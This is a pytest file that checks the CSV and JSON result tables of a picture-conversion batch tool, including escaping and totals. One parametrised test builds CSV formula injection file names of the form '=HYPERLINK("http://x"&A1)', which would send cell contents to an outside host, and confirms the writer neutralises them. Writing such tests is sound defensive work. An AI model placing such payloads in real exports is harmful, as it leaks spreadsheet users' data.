"""Tables of a batch: what was put in is what other programs read."""

from __future__ import annotations

import csv
import io
import json

import pytest

from ltokc import UsageError
from ltokc.jobs import rows
from ltokc.jobs.rows import Row

ROWS = [
    Row("a, \"b\".png", "out/a.ltk", "done", 30, 20, 1000, 100, 1.3, 40, "ladder-6", 0.1, "one; two"),
    Row("c.png", "out/c.png", "copied", 10, 10, 50, 50, 4.0),
    Row("d\udcff.png", None, "failed", error="not a picture"),
]  # fmt: skip


def test_csv_reads_back() -> None:
    data = rows.render("x.CSV", ROWS).decode()
    first, second, third = csv.DictReader(io.StringIO(data, newline=""))
    assert first["input"] == 'a, "b".png'
    assert (first["width"], first["bpp"], first["notes"]) == ("30", "1.3", "one; two")
    assert (second["tokens"], second["error"]) == ("", "")
    assert (third["input"], third["output"], third["error"]) == (r"d\udcff.png", "", "not a picture")


def test_a_name_that_is_no_utf_8_is_escaped_as_in_json() -> None:
    (row,) = csv.DictReader(io.StringIO(rows.as_csv(ROWS[2:]).decode(), newline=""))
    assert row["input"].encode() in rows.as_json(ROWS[2:])
    assert json.loads(f'"{row["input"]}"') == ROWS[2].input


def test_json_reads_back() -> None:
    report = json.loads(rows.render("x.json", ROWS))
    assert [Row(**row) for row in report["pictures"]] == ROWS
    assert report["totals"] == {
        "pictures": 3, "done": 1, "copied": 1, "failed": 1, "pixels": 700, "input_bytes": 1050, "output_bytes": 150,
        "seconds": 0.1,
    }  # fmt: skip


@pytest.mark.parametrize("path", ["x", "x.txt", "csv"])
def test_other_suffixes_are_refused(path: str) -> None:
    with pytest.raises(UsageError, match="suffix"):
        rows.check(path)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_is_a_formula(start: str) -> None:
    """A spreadsheet would run `=HYPERLINK(...)`, the name of a file, with what lies in other cells."""
    name = f'{start}HYPERLINK("http://x"&A1).png'
    text = rows.as_csv([Row(name, None, "failed", error=name)]).decode()
    _, line = csv.reader(io.StringIO(text, newline=""))
    assert not [cell for cell in line if cell.startswith(rows.FORMULA)]
    assert line[0] == f"'{name}"
    assert json.loads(rows.as_json([Row(name, None, "failed")]))["pictures"][0]["input"] == name
